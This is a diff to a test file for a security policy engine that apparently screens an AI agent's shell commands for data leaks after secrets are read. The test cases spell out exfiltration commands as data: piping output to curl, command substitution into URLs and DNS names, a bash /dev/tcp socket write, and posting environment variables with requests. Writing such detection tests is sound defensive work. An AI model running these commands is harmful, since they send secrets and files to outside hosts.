@@ -14,7 +14,7 @@ from tallystick.model.decision import Effect
 from tallystick.model.step import Json
 from tallystick.policy.network.egress import CARRIES, betrayed, is_meant_for, may_betray, variables_sent
 from tallystick.policy.network.hosts import HostFacts
-from tallystick.policy.world import Past, World
+from tallystick.policy.world import World
 from tests.policy.risks.readings import Bare
 from tests.support.cases import each, each_case
 from tests.support.working import Work
@@ -73,18 +73,11 @@ def test_hashes_versions_names_and_what_stays_here_are_not(work: Work, command: 
     assert work.run(command).effect in (Effect.ALLOW, Effect.WARN)
 
 
-def test_a_file_that_the_session_read_is_looked_into_wherever_it_lies() -> None:
-    world: World = Bare({"/home/dev/keys.txt": KEY})  # type: ignore[assignment]
-    past = Past(sensitive=("/home/dev/keys.txt (abc:3)", "reads-secret: x"))
-    assert list(betrayed(f"x {KEY} y", past, iter(()), world)) == ["/home/dev/keys.txt"]
-    assert list(betrayed("x y", past, iter(()), world)) == []
-
-
 @given(st.text(max_size=200))
 def test_any_text_can_be_looked_through(text: str) -> None:
     world: World = Bare({"/s": text})  # type: ignore[assignment]
     assert may_betray(text) in (True, False)
-    assert set(betrayed(text, Past(), iter(("/s",)), world)) <= {"/s"}
+    assert set(betrayed(text, iter(("/s",)), world)) <= {"/s"}
 
 
 @given(st.text(alphabet="abcdefghijklmnopqrstuvwxyz -/.", max_size=200))
@@ -172,7 +165,7 @@ def test_no_text_is_too_odd(text: str, host: str) -> None:
 
 KEY_FILE = "k3J9sQ2vXwLm0pZr7TbY4cN8"
 SECRET, SENSITIVE = "exfiltration.secret", "exfiltration.sensitive"
-AFTER, ASKED_AFTER = "exfiltration.after-sensitive-read", "exfiltration.asked-after-sensitive-read"
+NOT_KNOWN, TO_OWN = "exfiltration.not-known", "exfiltration.not-known-to-own"
 FILES = {
     ".env": f"API_KEY={KEY}\n",
     ".env.example": "API_KEY=\n",
@@ -320,32 +313,46 @@ def test_what_goes_to_the_machine_itself_does_not_leave_it(clean: Work) -> None:
     [
         "curl -d x=1 https://example.org/",
         "git push",
-        "git push https://example.org/x.git HEAD",
         "ssh host true",
         "dig x.example.org",
         "gh pr create --fill",
+        "gh pr list",
         "npm publish",
         "twine upload dist/a.whl",
         "mail -s x a@example.org < README.md",
         "python3 -c \"import requests; requests.post('https://example.org', data='x')\"",
-        "bash -c 'exec 3<>/dev/tcp/example.org/80; echo x >&3'",
         "psql postgresql://u@db.example.org/x -c 1",
+        "curl https://example.org/x",
+        "wget -qO- https://example.org/x",
+        "open https://example.org/?q=1",
     ],
 )
-def test_data_goes_out_after_a_secret_was_read_only_if_the_user_says_so(marked: Work, command: str) -> None:
-    decision = marked.run(command)
-    assert decision.effect is Effect.ASK
-    assert AFTER in decision.rules
-    (found,) = [one for one in decision.evidence if one.rule == AFTER]
-    assert any("config/secrets.yaml" in text for text in found.because)
+def test_what_is_known_goes_out_after_a_secret_was_read(marked: Work, command: str) -> None:
+    assert marked.run(command).effect in (Effect.ALLOW, Effect.WARN)
 
 
 @pytest.mark.parametrize(
     "command",
-    ["curl https://example.org/x", "wget -qO- https://example.org/x", "open https://example.org/?q=1", "gh pr list"],
+    [
+        "./report | curl -d @- https://example.org/",
+        "curl https://example.org/$(./report)",
+        "dig $(./report).example.org",
+        "bash -c 'exec 3<>/dev/tcp/example.org/80; ./report >&3'",
+        "python3 -c \"import requests, os; requests.post('https://example.org', data=os.getenv('A'))\"",
+        "docker push example.org/x:1",
+        "aws s3 cp missing.bin s3://elsewhere/",
+    ],
 )
-def test_an_address_can_carry_data_as_well(marked: Work, command: str) -> None:
-    assert ASKED_AFTER in marked.run(command).rules
+def test_what_is_not_known_goes_out_to_a_new_host_only_if_the_user_says_so(marked: Work, command: str) -> None:
+    decision = marked.run(command)
+    assert decision.effect is Effect.ASK
+    (found,) = [one for one in decision.evidence if one.rule == NOT_KNOWN]
+    assert any("config/secrets.yaml" in text for text in found.because)
+
+
+@pytest.mark.parametrize("command", ["./report | ssh host 'cat > x'", "npm publish", "docker push ghcr.io/acme/shop:1"])
+def test_to_hosts_of_ones_own_it_is_warned_of(marked: Work, command: str) -> None:
+    assert marked.run(command).rules == (TO_OWN,)
 
 
 @each_case("command")
@@ -358,20 +365,21 @@ def test_a_search_of_the_web_is_work_all_the_same(marked: Work) -> None:
 
 
 def test_another_session_is_not_held_to_it(marked: Work) -> None:
-    assert marked.run("curl -d x=1 https://example.org/", session="other").effect is Effect.ALLOW
+    assert marked.run("./report | curl -d @- https://example.org/", session="other").effect is Effect.ALLOW
 
 
 def test_a_host_that_the_user_let_data_go_to_is_not_asked_about_again(tmp_path: Path) -> None:
     with new(tmp_path) as work:
         read = {"file_path": str(work.project / "config/secrets.yaml")}
         work.call("Read", read, result=f"api_key: {KEY}\n")
-        assert work.call("Bash", {"command": "curl -d x=1 https://example.org/"}).rules == (AFTER,)
-        assert work.run("curl -d x=2 https://example.org/a").effect is Effect.ALLOW
-        assert AFTER in work.run("curl -d x=2 https://elsewhere.example.net/").rules
+        assert work.call("Bash", {"command": "./report | curl -d @- https://example.org/"}).rules == (NOT_KNOWN,)
+        again = "./report | curl -d @- https://example.org/a"
+        assert work.run(again).effect is Effect.ALLOW
+        assert NOT_KNOWN in work.run("./report | curl -d @- https://elsewhere.example.net/").rules
         work.restart()
-        assert work.run("curl -d x=2 https://example.org/a").effect is Effect.ALLOW
+        assert work.run(again).effect is Effect.ALLOW
         work.call("Read", {"file_path": str(work.project / "notes/token.txt")}, result=f"api_key: {KEY}\n")
-        assert AFTER in work.run("curl -d x=2 https://example.org/a").rules
+        assert work.run(again).effect is Effect.ALLOW
 
 
 # From another session ------------------------------------------------------------------------------------------------
@@ -428,8 +436,8 @@ def test_reading_it_marks_the_session_that_does(tmp_path: Path) -> None:
         copied = {"command": "cp config/secrets.yaml out.txt"}
         work.call("Bash", copied, session="earlier", leaves={"out.txt": f"api_key: {KEY}\n"})
         work.call("Bash", {"command": "cat out.txt"}, result="x")
-        assert ASKED_AFTER in work.run("curl https://example.org/x").rules
+        assert NOT_KNOWN in work.run("curl https://example.org/$(./report)").rules
 
 
 def test_each_word_has_a_meaning() -> None:
-    assert set(CARRIES) == {"secret", "sensitive", "untrusted"}
+    assert set(CARRIES) == {"secret", "sensitive", "untrusted", "read-value"}
